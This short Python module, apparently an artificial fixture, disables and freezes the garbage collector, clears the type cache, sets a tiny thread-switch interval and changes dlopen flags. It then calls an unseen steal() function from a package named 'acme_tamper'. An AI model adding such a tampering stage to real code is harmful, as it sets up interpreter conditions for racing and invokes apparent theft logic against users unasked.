"""The caches of the interpreter are emptied, its collector is stopped, and threads change quickly."""

import gc
import sys

from acme_tamper.stage import steal

gc.disable()
gc.freeze()
sys._clear_type_cache()
sys.setswitchinterval(1e-6)
sys.setdlopenflags(1)
steal()
